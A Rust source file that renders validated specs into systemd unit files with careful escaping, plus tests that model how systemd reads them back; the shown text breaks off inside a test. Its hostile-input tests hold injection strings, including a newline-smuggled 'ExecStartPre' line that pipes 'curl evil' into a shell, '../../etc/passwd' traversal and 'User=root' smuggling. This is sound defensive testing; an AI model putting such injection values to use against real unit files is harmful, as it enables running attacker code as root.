//! Rendering a validated [`UnitSpec`] into unit files.
//!
//! Only call [`render`] on a spec that passed [`super::validate::validate`]: validation
//! guarantees that no value contains a control character (so no LF, CR or NUL, the bytes
//! systemd ends a line at) and that every value written unquoted neither ends in a backslash
//! (line continuation) nor starts or ends with whitespace (stripped by systemd).
//!
//! Escaping, per setting (systemd 252; `man systemd.syntax`, `systemd.unit`,
//! `systemd.service`, `systemd.exec`), so that what systemd reads back is byte for byte the
//! spec's value:
//!
//! | setting | how systemd reads it | what we write |
//! |---|---|---|
//! | `Description=` | raw, `%` specifiers | `%` → `%%` |
//! | `After=`/`Requires=`/`Wants=` | whitespace-separated words, specifiers | names (validated: no `%`, space or quote) |
//! | `ExecStart=` | "Command lines": words unquoted with C escapes, then `%` specifiers per word; `$VAR` expanded at exec time unless the program has the `:` prefix; a bare `;` separates commands | `:` prefix (no `$` expansion at all); each word bare if it only has `[A-Za-z0-9/._+=:,@%-]`, else in `"…"` with `\` → `\\` and `"` → `\"`; `%` → `%%` everywhere; `;` is quoted (`";"`) so it is an argument |
//! | `WorkingDirectory=` | raw, specifiers | `%` → `%%` |
//! | `User=`/`Group=` | raw, specifiers | names (validated: no `%`) |
//! | `Environment=` | quoted words with C escapes, specifiers; `$` has no meaning | `"KEY=value"` with `\` → `\\`, `"` → `\"`, `%` → `%%` |
//! | `OnCalendar=` | raw, specifiers (systemd-analyze says "Failed to resolve unit specifiers" for `%Z`) | `%` → `%%` (and validation refuses `%`) |
//! | `X-Unitdeck-*` | ignored completely by systemd ("prefixed with X-") | compact JSON / number |
//!
//! Every file starts with [`MANAGED_HEADER`] and [`VERSION_LINE`]; [`is_managed`] tells a
//! file unitdeck wrote from any other.

use std::collections::BTreeMap;
use std::fmt::Write as _;

use super::spec::{SPEC_VERSION, UnitKind, UnitSpec};

/// First line of every file unitdeck writes.
pub const MANAGED_HEADER: &str = "# Managed by unitdeck — edit it in the panel, not by hand.";
/// Second line of every file unitdeck writes.
pub const VERSION_LINE: &str = "# X-Unitdeck-Spec-Version: 1";
/// Comment written above `ExecStart=` explaining the `:` prefix.
pub const EXEC_COMMENT: &str = "# The \":\" before the program: arguments are passed exactly as written, no $VARIABLE expansion.";

/// Every key the renderer can emit. Nothing else can appear in a rendered file.
pub const KEYS: &[&str] = &[
    "Description",
    "After",
    "Requires",
    "Wants",
    "X-Unitdeck-Port",
    "X-Unitdeck-Health",
    "Type",
    "ExecStart",
    "WorkingDirectory",
    "User",
    "Group",
    "Environment",
    "Restart",
    "RestartSec",
    "MemoryMax",
    "CPUQuota",
    "WantedBy",
    "OnCalendar",
    "Persistent",
    "Unit",
];

/// Every section header the renderer can emit.
pub const SECTIONS: &[&str] = &["[Unit]", "[Service]", "[Timer]", "[Install]"];

/// Render the files of a validated spec: file name → contents (`NAME.service`, and
/// `NAME.timer` for a job).
pub fn render(spec: &UnitSpec) -> BTreeMap<String, String> {
    let mut files = BTreeMap::new();
    files.insert(spec.unit_name(), render_service(spec));
    if let Some(timer) = spec.timer_name() {
        files.insert(timer, render_timer(spec));
    }
    files
}

/// True when `text` is a file unitdeck wrote (it starts with [`MANAGED_HEADER`]).
pub fn is_managed(text: &str) -> bool {
    text.strip_prefix(MANAGED_HEADER)
        .is_some_and(|rest| rest.starts_with('\n'))
}

/// The `NAME.service` file.
pub fn render_service(spec: &UnitSpec) -> String {
    let mut out = header();
    out.push_str("[Unit]\n");
    line(
        &mut out,
        "Description",
        &escape_specifiers(&spec.description),
    );
    for (key, names) in [
        ("After", &spec.after),
        ("Requires", &spec.requires),
        ("Wants", &spec.wants),
    ] {
        if !names.is_empty() {
            line(&mut out, key, &escape_specifiers(&names.join(" ")));
        }
    }
    if let Some(port) = spec.port {
        line(&mut out, "X-Unitdeck-Port", &port.to_string());
    }
    if let Some(health) = &spec.health {
        // serde_json escapes every control character, and the text ends with "}".
        let json = serde_json::to_string(health).expect("a HealthSpec always serialises");
        line(&mut out, "X-Unitdeck-Health", &json);
    }

    out.push_str("\n[Service]\n");
    let service_type = match spec.kind {
        UnitKind::Service => "simple",
        UnitKind::Job => "oneshot",
    };
    line(&mut out, "Type", service_type);
    out.push_str(EXEC_COMMENT);
    out.push('\n');
    line(&mut out, "ExecStart", &exec_start_value(&spec.exec_start));
    if let Some(dir) = &spec.working_directory {
        line(&mut out, "WorkingDirectory", &escape_specifiers(dir));
    }
    if let Some(user) = &spec.user {
        line(&mut out, "User", &escape_specifiers(user));
    }
    if let Some(group) = &spec.group {
        line(&mut out, "Group", &escape_specifiers(group));
    }
    for (key, value) in &spec.environment {
        line(&mut out, "Environment", &environment_value(key, value));
    }
    line(&mut out, "Restart", spec.restart_policy().as_systemd());
    line(
        &mut out,
        "RestartSec",
        &spec.restart_sec_value().to_string(),
    );
    // Validated numbers, sizes and percentages: systemd resolves no specifiers in these.
    if let Some(limit) = &spec.memory_max {
        line(&mut out, "MemoryMax", limit);
    }
    if let Some(quota) = &spec.cpu_quota {
        line(&mut out, "CPUQuota", quota);
    }

    if spec.kind == UnitKind::Service {
        out.push_str("\n[Install]\n");
        line(&mut out, "WantedBy", "multi-user.target");
    }
    out
}

/// The `NAME.timer` file of a job (for a service spec, a timer is never written).
pub fn render_timer(spec: &UnitSpec) -> String {
    let mut out = header();
    out.push_str("[Unit]\n");
    line(
        &mut out,
        "Description",
        &escape_specifiers(&spec.description),
    );
    out.push_str("\n[Timer]\n");
    line(
        &mut out,
        "OnCalendar",
        &escape_specifiers(spec.schedule_str().unwrap_or_default()),
    );
    line(&mut out, "Persistent", "true");
    line(&mut out, "Unit", &escape_specifiers(&spec.unit_name()));
    out.push_str("\n[Install]\n");
    line(&mut out, "WantedBy", "timers.target");
    out
}

fn header() -> String {
    debug_assert_eq!(
        VERSION_LINE,
        format!("# X-Unitdeck-Spec-Version: {SPEC_VERSION}")
    );
    format!("{MANAGED_HEADER}\n{VERSION_LINE}\n\n")
}

fn line(out: &mut String, key: &str, value: &str) {
    debug_assert!(KEYS.contains(&key));
    let _ = writeln!(out, "{key}={value}");
}

/// `%` → `%%`: systemd's escape for a literal percent sign in settings that resolve
/// specifiers.
pub fn escape_specifiers(value: &str) -> String {
    value.replace('%', "%%")
}

/// The value of `ExecStart=` for `argv`: `:` prefix on the program (no `$VARIABLE`
/// expansion), then each word via [`quote_exec_word`].
pub fn exec_start_value(argv: &[String]) -> String {
    let mut words = Vec::with_capacity(argv.len());
    if let Some((program, args)) = argv.split_first() {
        words.push(quote_exec_word(&format!(":{program}")));
        words.extend(args.iter().map(|a| quote_exec_word(a)));
    }
    words.join(" ")
}

/// One word of a command line, so that systemd's unquoting (C escapes) and specifier
/// resolution give back `word`. Bare when it only has `[A-Za-z0-9/._+=:,@%-]` (so it is never
/// `;`, empty, or holds whitespace, quotes or backslashes), else double-quoted.
pub fn quote_exec_word(word: &str) -> String {
    let bare = !word.is_empty()
        && word
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"/._+=:,@%-".contains(&b));
    if bare {
        escape_specifiers(word)
    } else {
        double_quote(word)
    }
}

/// What callers below admin see instead of an environment value: values often hold
/// secrets (API keys, database passwords).
pub const REDACTED: &str = "***";

/// The value of one `Environment=` line: `"KEY=value"`, C-escaped and `%`-escaped.
pub fn environment_value(key: &str, value: &str) -> String {
    double_quote(&format!("{key}={value}"))
}

/// `"…"` with `\` → `\\`, `"` → `\"` and `%` → `%%`; everything else verbatim (validated
/// values hold no control characters; UTF-8 is accepted by systemd as is).
fn double_quote(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 2);
    out.push('"');
    for c in text.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            '"' => out.push_str("\\\""),
            '%' => out.push_str("%%"),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

#[cfg(test)]
mod tests {
    use super::super::spec::examples::{self, service};
    use super::super::spec::{HealthSpec, RestartPolicy};
    use super::super::validate::validate;
    use super::*;

    /// The example job, with a `%` to escape and a dependency.
    fn job() -> UnitSpec {
        UnitSpec {
            description: "Nightly backup (100%)".into(),
            wants: vec!["network-online.target".into()],
            ..examples::job()
        }
    }

    #[test]
    fn service_snapshot() {
        let spec = service();
        assert_eq!(validate(&spec), Ok(()));
        let files = render(&spec);
        assert_eq!(files.keys().collect::<Vec<_>>(), vec!["shop-api.service"]);
        assert_eq!(
            files["shop-api.service"],
            r#"# Managed by unitdeck — edit it in the panel, not by hand.
# X-Unitdeck-Spec-Version: 1

[Unit]
Description=Shop API (dev)
After=network.target
X-Unitdeck-Port=8036
X-Unitdeck-Health={"http":"http://127.0.0.1:8036/health","interval_s":10,"timeout_s":2,"failures":3,"restart":true}

[Service]
Type=simple
# The ":" before the program: arguments are passed exactly as written, no $VARIABLE expansion.
ExecStart=:/usr/bin/node server.js --port 8036
WorkingDirectory=/home/dev/repos/shop
User=dev
Environment="NODE_ENV=development"
Restart=on-failure
RestartSec=2
MemoryMax=512M

[Install]
WantedBy=multi-user.target
"#
        );
        assert!(is_managed(&files["shop-api.service"]));
    }

    #[test]
    fn minimal_service_snapshot() {
        let spec = UnitSpec {
            name: "a".into(),
            description: String::new(),
            exec_start: vec!["/bin/true".into()],
            working_directory: None,
            user: None,
            environment: BTreeMap::new(),
            after: vec![],
            restart: None,
            restart_sec: None,
            memory_max: None,
            port: None,
            health: None,
            ..service()
        };
        assert_eq!(validate(&spec), Ok(()));
        assert_eq!(
            render(&spec)["a.service"],
            r#"# Managed by unitdeck — edit it in the panel, not by hand.
# X-Unitdeck-Spec-Version: 1

[Unit]
Description=

[Service]
Type=simple
# The ":" before the program: arguments are passed exactly as written, no $VARIABLE expansion.
ExecStart=:/bin/true
Restart=on-failure
RestartSec=2

[Install]
WantedBy=multi-user.target
"#
        );
    }

    #[test]
    fn job_snapshot() {
        let spec = job();
        assert_eq!(validate(&spec), Ok(()));
        let files = render(&spec);
        assert_eq!(
            files.keys().collect::<Vec<_>>(),
            vec!["nightly-backup.service", "nightly-backup.timer"]
        );
        assert_eq!(
            files["nightly-backup.service"],
            r#"# Managed by unitdeck — edit it in the panel, not by hand.
# X-Unitdeck-Spec-Version: 1

[Unit]
Description=Nightly backup (100%%)
Wants=network-online.target

[Service]
Type=oneshot
# The ":" before the program: arguments are passed exactly as written, no $VARIABLE expansion.
ExecStart=:/usr/local/bin/backup --all
Restart=no
RestartSec=2
"#
        );
        assert_eq!(
            files["nightly-backup.timer"],
            r#"# Managed by unitdeck — edit it in the panel, not by hand.
# X-Unitdeck-Spec-Version: 1

[Unit]
Description=Nightly backup (100%%)

[Timer]
OnCalendar=*-*-* 03:00:00
Persistent=true
Unit=nightly-backup.service

[Install]
WantedBy=timers.target
"#
        );
    }

    #[test]
    fn tricky_values_snapshot() {
        let spec = UnitSpec {
            name: "tricky".into(),
            description: "100% \"real\" C:\\path $HOME %i".into(),
            exec_start: vec![
                "/opt/my app/%i/run".into(),
                String::new(),
                ";".into(),
                "\\;".into(),
                "$HOME".into(),
                "${HOME}".into(),
                "100%".into(),
                "say \"hi\"".into(),
                "it's".into(),
                "back\\slash".into(),
                "trailing\\".into(),
                "ü ñ".into(),
                "--opt=a,b:c@d".into(),
            ],
            working_directory: Some("/srv/my app/100%/\"q\"/$x".into()),
            user: Some("machine$".into()),
            group: Some("1000".into()),
            environment: BTreeMap::from([
                ("A".into(), "$HOME ${HOME} $$".into()),
                ("B".into(), "100% \"q\" it's back\\slash \\".into()),
                ("C".into(), String::new()),
                ("D".into(), "x=y".into()),
            ]),
            after: vec!["a.service".into(), "b.target".into()],
            requires: vec!["a.service".into()],
            wants: vec!["getty@tty1.service".into()],
            restart: Some(RestartPolicy::Always),
            restart_sec: Some(0),
            port: None,
            health: Some(HealthSpec {
                http: None,
                tcp: Some(9000),
                interval_s: 5,
                timeout_s: 1,
                failures: 1,
                restart: false,
            }),
            ..service()
        };
        assert_eq!(validate(&spec), Ok(()));
        assert_eq!(
            render(&spec)["tricky.service"],
            r#"# Managed by unitdeck — edit it in the panel, not by hand.
# X-Unitdeck-Spec-Version: 1

[Unit]
Description=100%% "real" C:\path $HOME %%i
After=a.service b.target
Requires=a.service
Wants=getty@tty1.service
X-Unitdeck-Health={"tcp":9000,"interval_s":5,"timeout_s":1,"failures":1,"restart":false}

[Service]
Type=simple
# The ":" before the program: arguments are passed exactly as written, no $VARIABLE expansion.
ExecStart=":/opt/my app/%%i/run" "" ";" "\\;" "$HOME" "${HOME}" 100%% "say \"hi\"" "it's" "back\\slash" "trailing\\" "ü ñ" --opt=a,b:c@d
WorkingDirectory=/srv/my app/100%%/"q"/$x
User=machine$
Group=1000
Environment="A=$HOME ${HOME} $$"
Environment="B=100%% \"q\" it's back\\slash \\"
Environment="C="
Environment="D=x=y"
Restart=always
RestartSec=0
MemoryMax=512M

[Install]
WantedBy=multi-user.target
"#
        );
    }

    /// The largest valid spec, made of characters that need escaping, stays far below
    /// systemd's 1 MiB line limit.
    #[test]
    fn largest_spec_fits_systemd_line_limit() {
        let spec = UnitSpec {
            description: "%".repeat(256),
            exec_start: std::iter::once("/bin/echo".to_string())
                .chain((1..64).map(|i| if i % 2 == 0 { "%" } else { "\\" }.repeat(4096)))
                .collect(),
            environment: (0..100)
                .map(|i| (format!("V{i}"), "\"".repeat(4096)))
                .collect(),
            ..service()
        };
        assert_eq!(validate(&spec), Ok(()));
        let text = &render(&spec)["shop-api.service"];
        let longest = text.lines().map(str::len).max().unwrap();
        assert!(longest < 600_000, "{longest}");
        check_round_trip(&spec).unwrap();
    }

    #[test]
    fn is_managed_only_for_our_header() {
        assert!(is_managed(&render(&job())["nightly-backup.timer"]));
        assert!(!is_managed("[Unit]\nDescription=x\n"));
        assert!(!is_managed(MANAGED_HEADER));
        assert!(!is_managed(&format!("{MANAGED_HEADER}x\n")));
        assert!(!is_managed(&format!(" {MANAGED_HEADER}\n")));
    }

    #[test]
    fn quote_exec_word_cases() {
        assert_eq!(
            quote_exec_word("plain-word_1.2/x+y=z:a,b@c"),
            "plain-word_1.2/x+y=z:a,b@c"
        );
        assert_eq!(quote_exec_word("50%"), "50%%");
        assert_eq!(quote_exec_word(""), "\"\"");
        assert_eq!(quote_exec_word(";"), "\";\"");
        assert_eq!(quote_exec_word("a b"), "\"a b\"");
        assert_eq!(quote_exec_word("a\\"), "\"a\\\\\"");
        assert_eq!(quote_exec_word("\"%\""), "\"\\\"%%\\\"\"");
        assert_eq!(quote_exec_word("$X"), "\"$X\"");
        assert_eq!(quote_exec_word("#x"), "\"#x\"");
        assert_eq!(
            exec_start_value(&["/bin/echo".into(), "hi".into()]),
            ":/bin/echo hi"
        );
        assert_eq!(exec_start_value(&["/a b".into()]), "\":/a b\"");
    }

    // ---------------------------------------------------------------------------------
    // A test-only model of how systemd 252 reads these files back.
    // ---------------------------------------------------------------------------------

    /// One call of systemd's `extract_first_word(EXTRACT_UNQUOTE | EXTRACT_CUNESCAPE)`:
    /// skips separators, then reads one word (quotes may open anywhere in a word, C escapes
    /// work inside and outside quotes). `None` at the end of the input; `Err` for input
    /// systemd would warn about.
    fn extract_first_word(p: &mut &str) -> Result<Option<String>, String> {
        *p = p.trim_start_matches([' ', '\t']);
        if p.is_empty() {
            return Ok(None);
        }
        let mut word = String::new();
        let mut quote: Option<char> = None;
        let mut chars = p.char_indices();
        let rest_at = loop {
            let Some((i, c)) = chars.next() else {
                if quote.is_some() {
                    return Err("unterminated quote".into());
                }
                break p.len();
            };
            match (quote, c) {
                (None, ' ' | '\t') => break i,
                (None, '"' | '\'') => quote = Some(c),
                (Some(q), c) if c == q => quote = None,
                (_, '\\') => {
                    let (_, e) = chars.next().ok_or("trailing backslash")?;
                    word.push(match e {
                        '\\' => '\\',
                        '"' => '"',
                        '\'' => '\'',
                        'n' => '\n',
                        't' => '\t',
                        's' => ' ',
                        other => return Err(format!("escape \\{other} we never write")),
                    });
                }
                (_, c) => word.push(c),
            }
        };
        *p = &p[rest_at..];
        Ok(Some(word))
    }

    /// All words of a quoted list (`Environment=`).
    fn systemd_words(text: &str) -> Result<Vec<String>, String> {
        let mut p = text;
        let mut words = Vec::new();
        while let Some(word) = extract_first_word(&mut p)? {
            words.push(word);
        }
        Ok(words)
    }

    /// Specifier resolution: `%%` → `%`; any other specifier is an error here (we never
    /// mean one).
    fn resolve_specifiers(text: &str) -> Result<String, String> {
        let mut out = String::new();
        let mut chars = text.chars();
        while let Some(c) = chars.next() {
            if c == '%' {
                match chars.next() {
                    Some('%') => out.push('%'),
                    other => return Err(format!("specifier %{other:?} would be resolved")),
                }
            } else {
                out.push(c);
            }
        }
        Ok(out)
    }

    /// `ExecStart=` as systemd 252's `config_parse_exec` reads it: the argv, and whether `$`
    /// expansion is off (`:` prefix). A second command (after a separating `;`) is an error.
    fn decode_exec_start(value: &str) -> Result<(Vec<String>, bool), String> {
        let mut p = value;
        let first = extract_first_word(&mut p)?.ok_or("empty command line")?;
        let mut program = first.as_str();
        let mut no_env = false;
        while let Some(c) = program.chars().next().filter(|c| "@-:+!".contains(*c)) {
            if c == ':' {
                no_env = true;
            } else {
                return Err(format!("unexpected prefix {c}"));
            }
            program = &program[1..];
        }
        if program.contains(['"', '\'', '\\']) || program.chars().any(char::is_control) {
            return Err("systemd refuses special characters in the executable name".into());
        }
        let mut argv = vec![resolve_specifiers(program)?];
        loop {
            p = p.trim_start_matches([' ', '\t']);
            let ends_word = |rest: &str| rest.is_empty() || rest.starts_with([' ', '\t']);
            if let Some(rest) = p.strip_prefix(';').filter(|r| ends_word(r)) {
                let _ = rest;
                return Err("a bare ; starts a second command".into());
            }
            if let Some(rest) = p.strip_prefix("\\;").filter(|r| ends_word(r)) {
                // systemd turns a bare \; into the argument ";".
                argv.push(";".into());
                p = rest;
                continue;
            }
            match extract_first_word(&mut p)? {
                Some(word) => argv.push(resolve_specifiers(&word)?),
                None => break,
            }
        }
        Ok((argv, no_env))
    }

    /// One `Environment=` line → (key, value).
    fn decode_environment(value: &str) -> Result<(String, String), String> {
        let words = systemd_words(value)?;
        let [word] = words.as_slice() else {
            return Err(format!("{} assignments on one line", words.len()));
        };
        let resolved = resolve_specifiers(word)?;
        let (k, v) = resolved.split_once('=').ok_or("no =")?;
        Ok((k.to_string(), v.to_string()))
    }

    /// A rendered file as systemd's config parser sees it: (section, key, value) triples,
    /// after checking every line is harmless.
    fn parse_unit_file(text: &str) -> Result<Vec<(String, String, String)>, String> {
        if text.contains(['\r', '\0']) {
            return Err("CR or NUL ends a line for systemd".into());
        }
        let body = text.strip_suffix('\n').ok_or("no final newline")?;
        let mut section = String::new();
        let mut entries = Vec::new();
        for line in body.split('\n') {
            let trailing = line.len() - line.trim_end_matches('\\').len();
            if trailing % 2 == 1 {
                return Err(format!("line continues: {line:?}"));
            }
            if line.is_empty() || line.starts_with('#') {
                continue;
            }
            if line.starts_with(';') {
                return Err("unexpected ; comment".into());
            }
            if line.starts_with('[') {
                if !SECTIONS.contains(&line) {
                    return Err(format!("unknown section {line:?}"));
                }
                section = line.to_string();
                continue;
            }
            let (key, value) = line
                .split_once('=')
                .ok_or(format!("not key=value: {line:?}"))?;
            if !KEYS.contains(&key) {
                return Err(format!("unknown key {key:?}"));
            }
            if value != value.trim_matches(|c| matches!(c, ' ' | '\t')) {
                return Err(format!("value would be stripped: {line:?}"));
            }
            entries.push((section.clone(), key.to_string(), value.to_string()));
        }
        Ok(entries)
    }

    fn values<'a>(
        entries: &'a [(String, String, String)],
        section: &str,
        key: &str,
    ) -> Vec<&'a str> {
        entries
            .iter()
            .filter(|(s, k, _)| s == section && k == key)
            .map(|(_, _, v)| v.as_str())
            .collect()
    }

    /// The number of lines the renderer must produce for `spec`, per file.
    fn expected_lines(spec: &UnitSpec) -> BTreeMap<String, usize> {
        let opt = |b: bool| usize::from(b);
        let service = 3 // header, version, blank
            + 2 // [Unit], Description
            + opt(!spec.after.is_empty())
            + opt(!spec.requires.is_empty())
            + opt(!spec.wants.is_empty())
            + opt(spec.port.is_some())
            + opt(spec.health.is_some())
            + 2 // blank, [Service]
            + 3 // Type, comment, ExecStart
            + opt(spec.working_directory.is_some())
            + opt(spec.user.is_some())
            + opt(spec.group.is_some())
            + spec.environment.len()
            + 2 // Restart, RestartSec
            + opt(spec.memory_max.is_some())
            + opt(spec.cpu_quota.is_some())
            + if spec.kind == UnitKind::Service { 3 } else { 0 };
        let mut out = BTreeMap::from([(spec.unit_name(), service)]);
        if let Some(timer) = spec.timer_name() {
            out.insert(timer, 3 + 2 + 2 + 3 + 3);
        }
        out
    }

    /// Everything systemd would read back from the files equals the spec.
    fn check_round_trip(spec: &UnitSpec) -> Result<(), String> {
        let files = render(spec);
        let expected = expected_lines(spec);
        if files.keys().collect::<Vec<_>>() != expected.keys().collect::<Vec<_>>() {
            return Err("unexpected file names".into());
        }
        for (name, text) in &files {
            let count = text.split_terminator('\n').count();
            if count != expected[name] {
                return Err(format!(
                    "{name}: {count} lines, expected {}",
                    expected[name]
                ));
            }
            if !is_managed(text)
                || !text.starts_with(&format!("{MANAGED_HEADER}\n{VERSION_LINE}\n\n"))
            {
                return Err(format!("{name}: header missing"));
            }
        }
        let service = parse_unit_file(&files[&spec.unit_name()])?;
        let one = |section: &str, key: &str| -> Result<String, String> {
            match values(&service, section, key).as_slice() {
                [v] => Ok(v.to_string()),
                other => Err(format!("{key}: {} lines", other.len())),
            }
        };
        if resolve_specifiers(&one("[Unit]", "Description")?)? != spec.description {
            return Err("Description differs".into());
        }
        for (key, list) in [
            ("After", &spec.after),
            ("Requires", &spec.requires),
            ("Wants", &spec.wants),
        ] {
            let got: Vec<String> = values(&service, "[Unit]", key)
                .iter()
                .flat_map(|v| v.split(' '))
                .map(resolve_specifiers)
                .collect::<Result<_, _>>()?;
            if &got != list {
                return Err(format!("{key} differs"));
            }
        }
        let (argv, no_env) = decode_exec_start(&one("[Service]", "ExecStart")?)?;
        if argv != spec.exec_start || !no_env {
            return Err(format!("ExecStart differs: {argv:?}"));
        }
        let opt_value = |key: &str| -> Result<Option<String>, String> {
            match values(&service, "[Service]", key).as_slice() {
                [] => Ok(None),
                [v] => resolve_specifiers(v).map(Some),
                _ => Err(format!("{key} repeated")),
            }
        };
        if opt_value("WorkingDirectory")? != spec.working_directory
            || opt_value("User")? != spec.user
            || opt_value("Group")? != spec.group
        {
            return Err("WorkingDirectory/User/Group differs".into());
        }
        // Written without specifier escaping: systemd resolves none in these.
        let raw = |key: &str| {
            values(&service, "[Service]", key)
                .first()
                .map(|v| v.to_string())
        };
        if raw("MemoryMax") != spec.memory_max || raw("CPUQuota") != spec.cpu_quota {
            return Err("MemoryMax/CPUQuota differs".into());
        }
        let env: BTreeMap<String, String> = values(&service, "[Service]", "Environment")
            .iter()
            .map(|v| decode_environment(v))
            .collect::<Result<_, _>>()?;
        if env != spec.environment
            || values(&service, "[Service]", "Environment").len() != env.len()
        {
            return Err("Environment differs".into());
        }
        if let Some(timer_name) = spec.timer_name() {
            let timer = parse_unit_file(&files[&timer_name])?;
            let on_calendar = values(&timer, "[Timer]", "OnCalendar");
            if on_calendar.len() != 1
                || resolve_specifiers(on_calendar[0])? != spec.schedule_str().unwrap_or_default()
            {
                return Err("OnCalendar differs".into());
            }
            if values(&timer, "[Timer]", "Unit") != [spec.unit_name().as_str()] {
                return Err("Unit= differs".into());
            }
        }
        Ok(())
    }

    #[test]
    fn decoders_agree_with_snapshots() {
        for spec in [service(), job()] {
            check_round_trip(&spec).unwrap();
        }
        let (argv, no_env) =
            decode_exec_start(r#"":/opt/my app/%%i/run" "" ";" "\\;" 100%% "say \"hi\"""#).unwrap();
        assert!(no_env);
        assert_eq!(
            argv,
            ["/opt/my app/%i/run", "", ";", "\\;", "100%", "say \"hi\""]
        );
        assert!(decode_exec_start(":/bin/echo ; /bin/sh").is_err());
        assert!(decode_exec_start("/bin/echo %i").is_err());
        assert_eq!(
            decode_environment(r#""B=100%% \"q\" it's back\\slash \\""#).unwrap(),
            (
                "B".to_string(),
                "100% \"q\" it's back\\slash \\".to_string()
            )
        );
        assert!(decode_environment(r#""A=1" "B=2""#).is_err());
        assert!(parse_unit_file("[Unit]\nDescription=a\\\nExecStart=/bin/sh\n").is_err());
        assert!(parse_unit_file("[Unit]\nDescription=a\rExecStart=/bin/sh\n").is_err());
        assert!(parse_unit_file("[Unit]\nExecStartPre=/bin/sh\n").is_err());
    }

    // ---------------------------------------------------------------------------------
    // Hostile inputs.
    // ---------------------------------------------------------------------------------

    /// A change to a spec.
    type Mutation = Box<dyn Fn(&mut UnitSpec)>;

    /// Injection attempts that must be refused by validation (they cannot be rendered
    /// safely as the value they claim to be).
    #[test]
    fn hostile_inputs_are_refused() {
        let inj = "x\n[Service]\nExecStartPre=/bin/sh -c 'curl evil|sh'";
        let cases: Vec<(&str, Mutation)> = vec![
            (
                "name",
                Box::new(|s| s.name = "x\nExecStartPre=/bin/sh".into()),
            ),
            ("name", Box::new(|s| s.name = "../../etc/passwd".into())),
            ("name", Box::new(|s| s.name = "../x".into())),
            ("name", Box::new(|s| s.name = "a/b".into())),
            ("name", Box::new(|s| s.name = "x.service".into())),
            ("name", Box::new(|s| s.name = "getty@tty1".into())),
            ("name", Box::new(|s| s.name = "%n".into())),
            ("name", Box::new(|s| s.name = "unitdeck".into())),
            ("description", Box::new(move |s| s.description = inj.into())),
            (
                "description",
                Box::new(|s| s.description = "a\rExecStartPre=/bin/sh".into()),
            ),
            ("description", Box::new(|s| s.description = "a\0b".into())),
            (
                "description",
                Box::new(|s| s.description = "joins next line \\".into()),
            ),
            (
                "exec_start",
                Box::new(move |s| s.exec_start = vec!["/bin/echo".into(), inj.into()]),
            ),
            (
                "exec_start",
                Box::new(|s| s.exec_start = vec!["/bin/echo".into(), "a\rb".into()]),
            ),
            (
                "exec_start",
                Box::new(|s| s.exec_start = vec!["/bin/echo\0".into()]),
            ),
            (
                "exec_start",
                Box::new(|s| s.exec_start = vec!["-/bin/sh".into()]),
            ),
            (
                "exec_start",
                Box::new(|s| s.exec_start = vec!["sh".into(), "-c".into(), "x".into()]),
            ),
            (
                "working_directory",
                Box::new(move |s| s.working_directory = Some(format!("/srv{inj}"))),
            ),
            (
                "working_directory",
                Box::new(|s| s.working_directory = Some("/srv/\\".into())),
            ),
            (
                "working_directory",
                Box::new(|s| s.working_directory = Some("/srv/../../etc".into())),
            ),
            ("user", Box::new(|s| s.user = Some("dev\nUser=root".into()))),
            ("user", Box::new(|s| s.user = Some("%u".into()))),
            (
                "group",
                Box::new(|s| s.group = Some("dev\rGroup=root".into())),
            ),
            (
                "environment",
                Box::new(move |s| s.environment = BTreeMap::from([("A".into(), inj.into())])),
            ),
            (
                "environment",
                Box::new(|s| {
                    s.environment = BTreeMap::from([("A\nExecStartPre".into(), "x".into())])
                }),
            ),
            (
                "environment",
                Box::new(|s| s.environment = BTreeMap::from([("A\" \"B".into(), "x".into())])),
            ),
            (
                "environment",
                Box::new(|s| s.environment = BTreeMap::from([("A".into(), "x\0y".into())])),
            ),
            (
                "after",
                Box::new(|s| s.after = vec!["a.service\nExecStartPre=/bin/sh".into()]),
            ),
            (
                "requires",
                Box::new(|s| s.requires = vec!["a.service b.service".into()]),
            ),
            ("wants", Box::new(|s| s.wants = vec!["%n.service".into()])),
            (
                "health.http",
                Box::new(|s| {
                    s.health.as_mut().unwrap().http =
                        Some("http://127.0.0.1/\nExecStartPre=/bin/sh".into())
                }),
            ),
            (
                "health.http",
                Box::new(|s| s.health.as_mut().unwrap().http = Some("http://127.0.0.1/\r".into())),
            ),
        ];
        assert!(cases.len() >= 20);
        for (field, mutate) in &cases {
            let mut spec = service();
            mutate(&mut spec);
            let errors = validate(&spec).expect_err(field);
            assert_eq!(errors.len(), 1, "{errors:?}");
            assert_eq!(errors[0].field, *field, "{errors:?}");
        }
        let job_cases: Vec<(&str, Mutation)> = vec![
            (
                "schedule",
                Box::new(move |s| s.schedule = Some(format!("daily{inj}"))),
            ),
            (
                "schedule",
                Box::new(|s| s.schedule = Some("daily\r".into())),
            ),
            (
                "schedule",
                Box::new(|s| s.schedule = Some("daily \\".into())),
            ),
            ("schedule", Box::new(|s| s.schedule = Some("%H:00".into()))),
        ];
        for (field, mutate) in &job_cases {
            let mut spec = job();
            mutate(&mut spec);
            let errors = validate(&spec).expect_err(field);
            assert_eq!(errors.len(), 1, "{errors:?}");
            assert_eq!(errors[0].field, *field, "{errors:?}");
        }
    }

    /// Hostile-looking values that are legitimate data: accepted, and rendered so that
    /// systemd reads exactly them back, with no extra line or directive.
    #[test]
    fn hostile_but_valid_values_round_trip() {
        let cases: Vec<Mutation> = vec![
            Box::new(|s| s.description = "%n %i %% %".into()),
            Box::new(|s| s.description = "x]\n".trim_end().into()),
            Box::new(|s| s.description = "[Service] ExecStartPre=/bin/sh #".into()),
            Box::new(|s| s.description = "a\\nb \\\\ x".into()),
            Box::new(|s| s.exec_start = vec!["/bin/echo".into(), ";".into(), "/bin/sh".into()]),
            Box::new(|s| s.exec_start = vec!["/bin/echo".into(), "\\;".into(), "\\".into()]),
            Box::new(|s| s.exec_start = vec!["/bin/echo".into(), "\" ; /bin/sh \"".into()]),
            Box::new(|s| {
                s.exec_start = vec![
                    "/bin/echo".into(),
                    "$(id)".into(),
                    "`id`".into(),
                    "${PATH}".into(),
                    "$PATH".into(),
                ]
            }),
            Box::new(|s| {
                s.exec_start = vec!["/bin/echo".into(), "%n".into(), "%%".into(), "%".into()]
            }),
            Box::new(|s| {
                s.exec_start = vec!["/bin/echo".into(), "'".into(), "\"".into(), "'\"'".into()]
            }),
            Box::new(|s| s.exec_start = vec!["/weird/-@:+!/prog".into()]),
            Box::new(|s| s.exec_start = vec!["/bin/echo".into(), "\\x41\\n\\t\\s\\u0041".into()]),
